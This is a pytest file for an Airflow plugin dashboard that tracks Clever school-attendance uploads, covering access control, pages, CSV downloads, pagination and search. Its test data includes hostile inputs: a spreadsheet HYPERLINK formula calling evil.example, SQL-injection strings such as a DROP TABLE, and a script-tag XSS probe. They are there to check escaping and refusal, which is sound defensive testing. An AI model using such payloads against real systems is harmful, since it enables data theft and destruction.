"""The Attendance board served by Airflow's own API server app (in process): who may see it, and that its pages
say what the ledger holds. A real browser on a real run: test_scheduler."""

from __future__ import annotations

import csv
import io
import json
import re
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from zoneinfo import ZoneInfo

import numpy as np
import pytest
import sqlalchemy as sa

from clever_attendance.board.pages import local
from clever_attendance.hooks.ledger import engine
from clever_attendance.ledger import progress
from clever_attendance.ledger.record import RunEntry, write
from clever_attendance.ledger.tables import district_days, iso, run_districts
from clever_attendance.settings import BOARD_PAGE_SIZE, BOARD_PREFIX


def _shared_date_moment() -> datetime:
    """Now, or an hour earlier in the hour after midnight in New York, when Chicago's date is still yesterday's: the
    page's "today" is each district's own (springfield's in New York, shelbyville's in Chicago), and the ledger below
    gives both the same dates."""
    now = datetime.now(UTC).replace(microsecond=0)
    dates = {now.astimezone(ZoneInfo(zone)).date() for zone in ("America/New_York", "America/Chicago")}
    return now if len(dates) == 1 else now - timedelta(hours=1)


NOW = _shared_date_moment()


class _BoardClock(datetime):
    @classmethod
    def now(cls, tz=None) -> datetime:
        return NOW.astimezone(tz) if tz else NOW.replace(tzinfo=None)


@pytest.fixture(scope="module", autouse=True)
def board_clock():
    """The board reads the clock at NOW. Mocked because a test cannot choose the time of day it runs at; the rest
    of the board is Airflow's own app, in process."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("clever_attendance.board.app.datetime", _BoardClock)
        yield


class Tables(HTMLParser):
    """Each table's rows: (the row's data-* attributes, its cells' text), by the table's id."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tables: dict[str, list[tuple[dict, list[str]]]] = {}
        self._table = self._row = self._cell = None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "table":
            self._table = self.tables.setdefault(attrs.get("id", ""), [])
        elif tag == "tr" and self._table is not None:
            self._row = ({k[5:]: v for k, v in attrs.items() if k.startswith("data-")}, [])
        elif tag in ("td", "th") and self._row is not None:
            self._cell = [attrs.get("title") or ""] if tag == "td" and "title" in attrs else []

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self._row[1].append(" ".join("".join(self._cell).split()))
            self._cell = None
        elif tag == "tr" and self._row is not None:
            if self._row[0]:
                self._table.append(self._row)
            self._row = None
        elif tag == "table":
            self._table = None


def rows(html: str, table: str) -> dict[str, list[str]]:
    return {" ".join(attrs.values()): cells for attrs, cells in Tables(html).tables[table]}


def attention_counts(page: str) -> dict[str, int]:
    """The page's count of districts in each state that needs attention, by the state's name in the query string."""
    return {state: int(count.replace(",", "")) for state, count in re.findall(r'data-state="([a-z-]+)"[^>]*>([\d,]+) ',
                                                                              page)}


def delivered(run_id: str, slug: str, day: str, status: str, read: int, delivered: int, reasons: dict,
              sync: str) -> dict:
    rejected = sum(reasons.values())
    return {"district": slug, "attendance_date": day, "window": f"{day}_{day}", "status": status, "read": read,
            "delivered": delivered, "rejected": rejected, "superseded": read - delivered - rejected,
            "rejected_by_reason": json.dumps(reasons), "import_ids": f"upl_{run_id}", "last_attendance_sync": sync,
            "completed_at": sync.replace(":30:", ":41:"), "latency_p95": 660.0}


@pytest.fixture(scope="module")
def ledger(tmp_path_factory):
    """A ledger of two school days: springfield uploaded both (with rejects), shelbyville failed today."""
    import pandas as pd

    from clever_attendance.hooks.ledger import engine

    path = tmp_path_factory.mktemp("board") / "ledger.db"
    made = engine(__import__("sqlalchemy").make_url(f"sqlite:///{path}"))
    today = NOW.astimezone(ZoneInfo("America/New_York")).date()
    days = [str(today - timedelta(days=n)) for n in (1, 0)]
    sync = NOW.strftime("%Y-%m-%dT%H:30:00Z")
    earlier = RunEntry("clever_attendance", "scheduled__earlier", "scheduled")  # springfield's day, first posted
    earlier.deliveries.append({**delivered("scheduled__earlier", "springfield", days[0], "uploaded", 305, 302,
                                           {"unknown_student": 3}, sync), "posted": "new"})
    earlier.identities["springfield"] = {days[0]: np.arange(1, 303, dtype=np.uint64)}
    write(made, earlier, 30, NOW - timedelta(hours=30))
    # the nightly reconciliation: springfield's day corrected, 5 of its records deleted in the SIS; shelbyville's
    # day never delivered before (a missed day)
    progress.plan(made, "clever_attendance_daily", "scheduled__yesterday", dict.fromkeys(
        ("springfield", "shelbyville"), f"{days[0]}_{days[0]}"), {}, reconciled=True)
    for slug in ("springfield", "shelbyville"):
        progress.done(made, "clever_attendance_daily", "scheduled__yesterday", slug)
    yesterday = RunEntry("clever_attendance_daily", "scheduled__yesterday", "scheduled", reconciled=True)
    yesterday.deliveries += [
        {**delivered("scheduled__yesterday", "springfield", days[0], "uploaded", 300, 297, {"unknown_student": 3},
                     sync), "posted": "changed"},
        {**delivered("scheduled__yesterday", "shelbyville", days[0], "uploaded", 1120, 1100, {"missing_section": 20},
                     sync), "posted": "new"}]
    yesterday.identities["springfield"] = {days[0]: np.arange(6, 303, dtype=np.uint64)}
    yesterday.rejects.append(pd.DataFrame({"district": "springfield", "attendance_date": days[0],
                                           "reason": "unknown_student", "detail": "", "school_id": "sc1",
                                           "student_id": ["s1", "s2", "s3"], "section_id": "",
                                           "last_modified": "2026-11-19T10:00:00Z"}))
    yesterday.rejects.append(pd.DataFrame({  # what anyone who can edit Clever's data may put in a reject's cells
        "district": "shelbyville", "attendance_date": days[0], "reason": "missing_section",
        "detail": ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+2", "-3", "@SUM(A1)", "ok"],
        "school_id": "sc2", "student_id": [f"t{n}" for n in range(5)], "section_id": "\tx",
        "last_modified": "2026-11-19T10:00:00Z"}))
    write(made, yesterday, 30, NOW - timedelta(hours=20))
    today_run = RunEntry("clever_attendance", "manual__today", "manual")
    today_run.deliveries += [
        delivered("manual__today", "springfield", days[1], "uploaded", 301, 299, {"unknown_student": 1,
                                                                                  "no_student_number": 1}, sync),
        {"district": "shelbyville", "attendance_date": days[1], "window": f"{days[1]}_{days[1]}",
         "status": "failed at extract", "last_attendance_sync": sync}]
    write(made, today_run, 30, NOW - timedelta(minutes=5))
    from clever_attendance.ledger.tables import holds

    with made.begin() as db:  # the guard held springfield's school 101 today; nobody has decided yet
        db.execute(holds.insert().values(
            district="springfield", attendance_date=days[1], fingerprint="f1", dag_id="clever_attendance",
            run_id="manual__today", review_run_id=f"hold__springfield__{days[1]}__f1", held_at="2026-12-03T12:00:00Z",
            findings=f"{days[1]} school 101: absent share jumped: 100 records, 100 students, 100% absent"))
    return path, days


@pytest.fixture(scope="module")
def client(airflow_db, ledger):
    """Airflow's API server app, the project's plugins in it, its ledger the one above."""
    import os

    from airflow.api_fastapi.app import create_app
    from fastapi.testclient import TestClient

    os.environ["AIRFLOW_CONN_ATTENDANCE_LEDGER"] = json.dumps({"conn_type": "sqlite", "host": str(ledger[0])})
    try:
        yield TestClient(create_app(apps="core"))
    finally:
        del os.environ["AIRFLOW_CONN_ATTENDANCE_LEDGER"]


def token(role: str | None) -> dict[str, str]:
    from airflow.api_fastapi.app import get_auth_manager
    from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser

    jwt = get_auth_manager().generate_jwt(SimpleAuthManagerUser(username=f"user_{role}", role=role))
    return {"_token": jwt}


@contextmanager
def signed_in(client, role: str | None = "VIEWER"):
    """The client with the cookie Airflow's login sets, of a user of this role (None: a role that grants nothing)."""
    client.cookies.update(token(role))
    try:
        yield client
    finally:
        client.cookies.clear()


PAGES = ["/", "/districts/springfield", "/dags/clever_attendance/runs/manual__today"]


@pytest.mark.parametrize("page", PAGES + ["/districts/springfield/rejects/2026-11-19.csv"])
def test_the_board_needs_a_login_and_the_right_to_read_the_dags(client, page):
    url = BOARD_PREFIX + page
    assert client.get(url).status_code == 401, "anonymous"
    with signed_in(client, None):
        assert client.get(url).status_code == 403


@pytest.mark.parametrize("page", PAGES)
def test_a_viewer_reads_every_page_and_nothing_else_is_served(client, page):
    with signed_in(client):
        answer = client.get(BOARD_PREFIX + page)
        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/html")
        for hidden in ("/docs", "/openapi.json", "/redoc"):
            assert client.get(BOARD_PREFIX + hidden).status_code == 404, "no anonymous API description"


def test_the_page_says_where_each_district_stands(client, ledger):
    _, (yesterday, today) = ledger
    with signed_in(client):
        page = client.get(BOARD_PREFIX + "/").text
    districts = rows(page, "districts")
    assert list(districts) == ["shelbyville shelbyville unified", "springfield springfield public schools"], \
        "the failed district first, then the held one"
    spring = districts["springfield springfield public schools"]
    shelby = districts["shelbyville shelbyville unified"]
    # district, what needs attention, last date delivered, last sync, freshness, today, rows today, rejected today,
    # sparkline, last reconciliation with the dates corrected and filled the last 7 days and the records gone from
    # Clever, last run
    assert (spring[1], shelby[1]) == ("held corrections pending", "failed")
    assert attention_counts(page) == {"failed": 1, "held": 1, "corrections": 1}
    assert (spring[2], spring[4], spring[5], spring[6], spring[7]) == (today, "caught up", "uploaded", "299", "0.7%")
    assert spring[10] == "manual__today"
    with engine(sa.make_url(f"sqlite:///{ledger[0]}")).connect() as db:
        reconciled = dict(db.execute(sa.select(run_districts.c.district, run_districts.c.recorded_at)).all())
    assert spring[9] == f"{local(reconciled['springfield'], 'America/New_York')} · 1 corrected · 5 gone"
    assert shelby[9] == f"{local(reconciled['shelbyville'], 'America/Chicago')} · 1 filled"
    assert (shelby[2], shelby[5], shelby[6]) == (yesterday, "failed at extract", "")
    assert shelby[4] == "caught up", "its newest sync is the one yesterday's upload delivered"
    (_, waiting), = Tables(page).tables["waiting"]
    assert waiting[:3] == ["springfield", today, f"{today} school 101: absent share jumped: 100 records, 100 "
                                                 "students, 100% absent"] and waiting[4] == "decide"
    assert (f'/dags/clever_attendance_review/runs/hold__springfield__{today}__f1/tasks/decide/required_actions" '
            'target="_top">decide</a>') in page
    grid = rows(page, "grid")
    assert grid["springfield springfield public schools"][1:] == [
        f"springfield {yesterday}: uploaded · 297 rows delivered · 3 rejected (1.0%)",
        f"springfield {today}: uploaded · 299 rows delivered · 2 rejected (0.7%)"]
    assert grid["shelbyville shelbyville unified"][2] == f"shelbyville {today}: failed at extract"


def test_a_broken_district_is_a_red_row_and_a_broken_file_a_page_that_says_why(client, tmp_path, monkeypatch):
    from clever_attendance_sandbox.testing import ROOT

    shipped = (ROOT / "include" / "districts.yaml").read_text()
    path = tmp_path / "districts.yaml"
    path.write_text(shipped.replace("timezone: America/Chicago", "timezone: America/Springfield"))
    monkeypatch.setenv("ATTENDANCE_DISTRICTS_FILE", str(path))
    with signed_in(client):
        page = client.get(BOARD_PREFIX + "/")
        assert page.status_code == 200
        assert rows(page.text, "broken") == {"shelbyville": [
            "shelbyville", "left out", f"{path}: district 'shelbyville': field 'timezone': unknown time zone "
                                       "'America/Springfield'"]}
        assert list(rows(page.text, "districts")) == ["springfield springfield public schools"]
        path.write_text(shipped.replace("  timezone: America/New_York", "  timezone: Mars/Base", 1))
        page = client.get(BOARD_PREFIX + "/")
        district = client.get(BOARD_PREFIX + "/districts/springfield")
    assert page.status_code == district.status_code == 503
    assert "the districts file cannot be read" in page.text
    assert f"{path}: defaults: field &#39;timezone&#39;: unknown time zone &#39;Mars/Base&#39;" in page.text


def test_a_district_page_lists_its_dates_and_serves_their_rejects(client, ledger):
    _, (yesterday, today) = ledger
    with signed_in(client):
        page = client.get(BOARD_PREFIX + "/districts/springfield").text
        dates = rows(page, "dates")
        assert dates[yesterday][1:8] == ["uploaded", "300", "297", "3", "0", "unknown_student 3", "5"]
        assert dates[today][6] == "no_student_number 1, unknown_student 1"
        download = client.get(f"{BOARD_PREFIX}/districts/springfield/rejects/{yesterday}.csv")
        assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv")
        assert download.text.splitlines() == [
            "attendance_date,reason,detail,school_id,student_id,section_id,last_modified",
            *(f"{yesterday},unknown_student,,sc1,s{n},,2026-11-19T10:00:00Z" for n in (1, 2, 3))]
        missing = client.get(f"{BOARD_PREFIX}/districts/springfield/rejects/{today}.csv")
        assert missing.status_code == 404 and "rejects_retention_days" in missing.json()["detail"]
        assert client.get(BOARD_PREFIX + "/districts/nowhere").status_code == 404


def test_a_downloaded_rejects_file_runs_no_formula_in_a_spreadsheet(client, ledger):
    _, (yesterday, _) = ledger
    with signed_in(client):
        download = client.get(f"{BOARD_PREFIX}/districts/shelbyville/rejects/{yesterday}.csv")
    details = {row["student_id"]: (row["detail"], row["section_id"]) for row in csv.DictReader(
        io.StringIO(download.text))}
    assert details == {"t0": ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'\tx"),
                       "t1": ("'+1+2", "'\tx"), "t2": ("'-3", "'\tx"), "t3": ("'@SUM(A1)", "'\tx"),
                       "t4": ("ok", "'\tx")}, "every cell that could start a formula is text"


def test_read_access_to_the_review_dag_alone_opens_nothing(client, monkeypatch):
    """A role that may read only clever_attendance_review (FAB can grant that; the simple auth manager of this test
    cannot, so its answer is replaced by that role's) sees neither the board nor a district's rejects."""
    from airflow.api_fastapi.app import get_auth_manager

    manager = get_auth_manager()
    monkeypatch.setattr(type(manager), "is_authorized_dag",
                        lambda self, method, user, access_entity=None, details=None:
                        details is not None and details.id == "clever_attendance_review")
    with signed_in(client):
        for page in ("/", "/districts/springfield", "/districts/springfield/rejects/2026-11-19.csv"):
            answer = client.get(BOARD_PREFIX + page)
            assert answer.status_code == 403 and "clever_attendance_daily" in answer.json()["detail"]


def test_a_runs_tab_says_what_it_synced(client, ledger):
    _, (_, today) = ledger
    with signed_in(client):
        page = client.get(BOARD_PREFIX + "/dags/clever_attendance/runs/manual__today").text
        other = client.get(BOARD_PREFIX + "/dags/some_other_dag/runs/manual__x")
    assert f"<h1>Attendance {today}</h1>" in page
    outcome = rows(page, "outcome")
    assert outcome[f"springfield {today}"][2:6] == ["uploaded", "301", "299", "2"]
    assert outcome[f"shelbyville {today}"][2:4] == ["failed at extract", ""]
    assert other.status_code == 200 and "not a Clever attendance DAG" in other.text
    (_, held), = Tables(page).tables["holds"]
    assert held[:2] == ["springfield", today] and "absent share jumped" in held[2]


def test_the_plugin_puts_a_page_in_browse_and_a_tab_on_runs(client):
    with signed_in(client):
        plugins = client.get("/api/v2/plugins").json()["plugins"]
    board, = [p for p in plugins if p["name"] == "attendance_board"]
    views = {v["destination"]: (v["name"], v["href"], v["url_route"]) for v in board["external_views"]}
    assert views == {"nav": ("Clever attendance", "attendance-board/", "clever-attendance"),
                     "dag_run": ("Attendance", "attendance-board/dags/{DAG_ID}/runs/{RUN_ID}", "attendance")}
    assert board["fastapi_apps"] == [{"name": "Attendance board", "app": "clever_attendance.board.LazyApp",
                                      "url_prefix": BOARD_PREFIX}]


def test_every_process_imports_the_plugin_without_the_boards_app():
    """Each task process imports the plugins folder: the board's FastAPI app waits for the API server's first
    request."""
    import subprocess
    import sys

    from clever_attendance_sandbox.wiring import ROOT

    code = ("import sys, runpy, airflow.sdk; runpy.run_path(sys.argv[1]); "
            "print(sorted(m for m in sys.modules if m in ('fastapi', 'airflow.api_fastapi') or m.startswith("
            "'clever_attendance.board.')))")
    out = subprocess.run([sys.executable, "-c", code, str(ROOT / "plugins" / "attendance_board.py")], check=True,
                         capture_output=True, text=True).stdout
    assert out.strip().splitlines()[-1] == "[]"


FLEET = 5000  # districts in the fleet's file, as many as the issue's
TOWNS = ("Springfield", "Shelbyville", "Ogdenville", "North Haverbrook", "Capital City", "Brockway", "Cypress Creek")
# the fleet's districts that need attention, and why; the others uploaded every school day, caught up
FAILED, HELD, LATE, STALE, GONE = ("d0100", "d4000"), ("d0200", "d4500"), ("d0400",), ("d0500", "d4999"), ("d0600",)
LEFT_OUT = ("broken_a", "broken_b")  # entries of the file with a mistake


@pytest.fixture(scope="module")
def fleet(tmp_path_factory):
    """A districts file of FLEET districts (and two entries left out), and a ledger of their last 30 school days
    (where each date stands, as the board reads it) in which a few need attention."""
    from clever_attendance.ledger.tables import holds

    work = tmp_path_factory.mktemp("fleet")
    entries = [f"  - {{slug: d{n:04d}, name: {TOWNS[n % len(TOWNS)]} Schools {n:04d}, clever_district_id: "
               f"'{n:024x}', safety_shield_district_id: '{10000 + n}'}}" for n in range(FLEET)]
    entries += [f"  - {{slug: {slug}, name: Broken, clever_district_id: 'ffffffffffffffffffff000{n}', "
                f"safety_shield_district_id: '9{n}', timezone: Mars/Base}}" for n, slug in enumerate(LEFT_OUT)]
    (work / "districts.yaml").write_text("districts:\n" + "\n".join(entries) + "\n")
    today = NOW.astimezone(ZoneInfo("America/New_York")).date()
    days = [str(d) for d in sorted(d for d in (today - timedelta(days=n) for n in range(60)) if d.weekday() < 5)[-30:]]

    def sync(day: str) -> str:  # each date's Clever sync: the evening's, today's an hour ago
        return min(f"{day}T21:00:00Z", iso(NOW - timedelta(hours=1)))

    stands = []
    for n in range(FLEET):
        slug = f"d{n:04d}"
        for number, day in enumerate(days):
            if slug == "d4999" or (slug == "d0500" and number >= len(days) - 3):
                continue  # never synced; not synced the last three school days
            row = {"district": slug, "attendance_date": day, "status": "uploaded", "dag_id": "clever_attendance",
                   "run_id": f"scheduled__{day}", "recorded_at": sync(day), "last_attendance_sync": sync(day),
                   "read": 300, "delivered": 297, "rejected": 3, "superseded": 0,
                   "rejected_by_reason": '{"unknown_student": 3}', "delivered_dag_id": "clever_attendance",
                   "delivered_run_id": f"scheduled__{day}", "delivered_sync": sync(day), "gone": 0}
            if (slug, number) in (("d0100", len(days) - 1), ("d4000", len(days) - 10)):
                row.update(status="failed at extract", delivered_sync=None, read=None, delivered=None, rejected=None)
            if (slug, number) == ("d0400", len(days) - 1):  # Clever synced 50 minutes ago; not delivered yet
                row.update(last_attendance_sync=iso(NOW - timedelta(minutes=50)), delivered_sync=sync(days[-2]))
            if (slug, number) == ("d0600", len(days) - 5):
                row["gone"] = 4
            stands.append(row)
    ledger = engine(sa.make_url(f"sqlite:///{work / 'ledger.db'}"))
    with ledger.begin() as db:
        db.execute(district_days.insert(), stands)
        db.execute(holds.insert(), [
            {"district": slug, "attendance_date": days[-1], "fingerprint": "f1", "dag_id": "clever_attendance",
             "run_id": f"scheduled__{days[-1]}", "review_run_id": f"hold__{slug}__{days[-1]}__f1",
             "held_at": iso(NOW), "findings": f"{days[-1]} school 101: absent share jumped", "decision": decision}
            for slug, decision in (("d0200", None), ("d4500", None), ("d0300", "approved"))])
    return work / "districts.yaml", work / "ledger.db"


@pytest.fixture
def fleet_board(client, fleet, monkeypatch):
    """A viewer's GET of the board's page (a query string) over the fleet's file and ledger."""
    districts, ledger = fleet
    monkeypatch.setenv("ATTENDANCE_DISTRICTS_FILE", str(districts))
    monkeypatch.setenv("AIRFLOW_CONN_ATTENDANCE_LEDGER", json.dumps({"conn_type": "sqlite", "host": str(ledger)}))
    with signed_in(client):
        yield lambda query="": client.get(f"{BOARD_PREFIX}/{query}")


def shown(page: str) -> list[str]:
    """The slugs of the entries on a page of the board, in its order: those left out, then the districts."""
    tables = Tables(page).tables
    return ([attrs["district"] for attrs, _ in tables.get("broken", [])]
            + [attrs["district"].split()[0] for attrs, _ in tables.get("districts", [])])


def test_with_many_districts_those_that_need_attention_come_first(fleet_board):
    page = fleet_board().text
    attention = [*LEFT_OUT, *sorted(FAILED), *sorted(HELD), *LATE, *sorted(STALE), *GONE]
    quiet = [f"d{n:04d}" for n in range(FLEET) if f"d{n:04d}" not in attention]
    assert shown(page) == attention + quiet[:BOARD_PAGE_SIZE - len(attention)]
    assert attention_counts(page) == {"left-out": 2, "failed": 2, "held": 2, "late": 2, "stale": 2,
                                      "corrections": 1}, "d0100's failed upload leaves its newest sync late too"
    lines = {attrs["district"].split()[0]: cells for attrs, cells in Tables(page).tables["districts"]}
    assert lines["d0100"][0] == "Ogdenville Schools 0100 d0100" and lines["d0100"][1] == "failed late"
    assert [lines[slug][1] for slug in ("d0200", "d0400", "d0500", "d0600", "d0000")] == [
        "held", "late", "stale", "corrections pending", ""]
    assert lines["d4999"][1:6] == ["stale", "—", "—", "—", "not synced"], "never synced"
    assert {attrs["district"] for attrs, _ in Tables(page).tables["waiting"]} == set(HELD), "decided holds wait not"
    assert [attrs["district"].split()[0] for attrs, _ in Tables(page).tables["grid"]] == list(lines), \
        "the grid holds the page's districts, in its order"
    held = fleet_board("?state=held").text
    assert shown(held) == sorted(HELD) and "1–2 of 2 districts · held" in held


def test_the_board_pages_through_the_fleet_by_slug_after_those_that_need_attention(fleet_board):
    attention = {*LEFT_OUT, *FAILED, *HELD, *LATE, *STALE, *GONE}
    quiet = [f"d{n:04d}" for n in range(FLEET) if f"d{n:04d}" not in attention]
    first = BOARD_PAGE_SIZE - len(attention)
    second = fleet_board("?page=2").text
    assert shown(second) == quiet[first:first + BOARD_PAGE_SIZE]
    pages = -(-(FLEET + len(LEFT_OUT)) // BOARD_PAGE_SIZE)
    assert f"51–100 of 5,002 districts · page 2 of {pages}" in second
    assert f'href="{BOARD_PREFIX}/?page=3" rel="next"' in second and f'href="{BOARD_PREFIX}/" rel="prev"' in second
    last = fleet_board(f"?page={pages}").text
    assert shown(last) == quiet[first + (pages - 2) * BOARD_PAGE_SIZE:] and 'rel="next"' not in last
    assert shown(fleet_board("?page=999999").text) == shown(last), "a page past the last is the last"


@pytest.mark.parametrize(("search", "found"), [
    ("d0042", ["d0042"]),
    ("  OGDENVILLE   schools 0100 ", ["d0100"]),  # a name, in any case, its spaces as typed
    ("_", list(LEFT_OUT)),  # a character, not a pattern: only the slugs that hold one
    ("O'Brien (north) & co., st.-louis/x", []),
])
def test_a_search_finds_districts_by_name_or_slug(fleet_board, search, found):
    from urllib.parse import quote

    from markupsafe import escape

    answer = fleet_board(f"?q={quote(search)}")
    assert answer.status_code == 200 and shown(answer.text) == found
    assert ("No district" in answer.text) == (not found)
    assert f'name="q" value="{escape(" ".join(search.split()))}"' in answer.text, "said back as text, escaped"


def test_a_search_pages_its_districts_and_keeps_to_a_state(fleet_board):
    ogdenville = [f"d{n:04d}" for n in range(FLEET) if n % len(TOWNS) == 2]  # d0100, failed, first
    page = fleet_board("?q=ogdenville").text
    assert shown(page) == ["d0100", *[slug for slug in ogdenville if slug != "d0100"][:BOARD_PAGE_SIZE - 1]]
    assert f"1–50 of {len(ogdenville)} districts · matching “ogdenville”" in page
    assert f'href="{BOARD_PREFIX}/?q=ogdenville&amp;page=2" rel="next"' in page
    assert 'name="q" value="ogdenville"' in page
    assert shown(fleet_board("?q=ogdenville&state=failed").text) == ["d0100"]
    assert attention_counts(page)["failed"] == 2, "the counts are the fleet's, whatever the search"


@pytest.mark.parametrize("query", [
    "?q=%27%20OR%20%271%27%3D%271",  # ' OR '1'='1
    "?q=%27%3B%20DROP%20TABLE%20district_days%3B--",  # '; DROP TABLE district_days;--
    "?q=d0%25", "?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "?q=%00", "?q=a%0Ab%1Bc", "?q=" + "x" * 65,
    "?q=" + "%F0%9F%98%80" * 3, "?q=a&q=b", "?q=" + "y" * 20_000,
    "?page=0", "?page=-1", "?page=1e3", "?page=abc", "?page=99999999", "?page=2&page=3",
    "?state=unknown", "?state=failed%27--",
])
def test_a_hostile_query_string_is_a_clean_refusal(fleet_board, fleet, query):
    def stands() -> int:
        with engine(sa.make_url(f"sqlite:///{fleet[1]}")).connect() as db:
            return db.execute(sa.select(sa.func.count()).select_from(district_days)).scalar()

    before = stands()
    answer = fleet_board(query)
    assert answer.status_code == 400 and answer.headers["content-type"].startswith("text/html")
    assert "the board cannot read this address" in answer.text and f'href="{BOARD_PREFIX}/"' in answer.text
    assert "alert(1)" not in answer.text and "DROP" not in answer.text, "the page says what is wrong, not the input"
    assert stands() == before, "the ledger is whole"


def test_a_page_of_a_fleet_is_bounded(fleet_board):
    """Whatever the fleet's size, a page holds BOARD_PAGE_SIZE entries: their rows, and their grid of 30 days."""
    for query in ("", "?page=7", "?q=schools"):
        page = fleet_board(query)
        tables = Tables(page.text).tables
        assert len(shown(page.text)) == BOARD_PAGE_SIZE and len(tables["grid"]) == len(tables["districts"])
        assert page.text.count('<th class="d">') == 30, "each row's grid: the last 30 school days"
        assert len(page.content) < 1_000_000, f"{query}: {len(page.content):,} bytes"
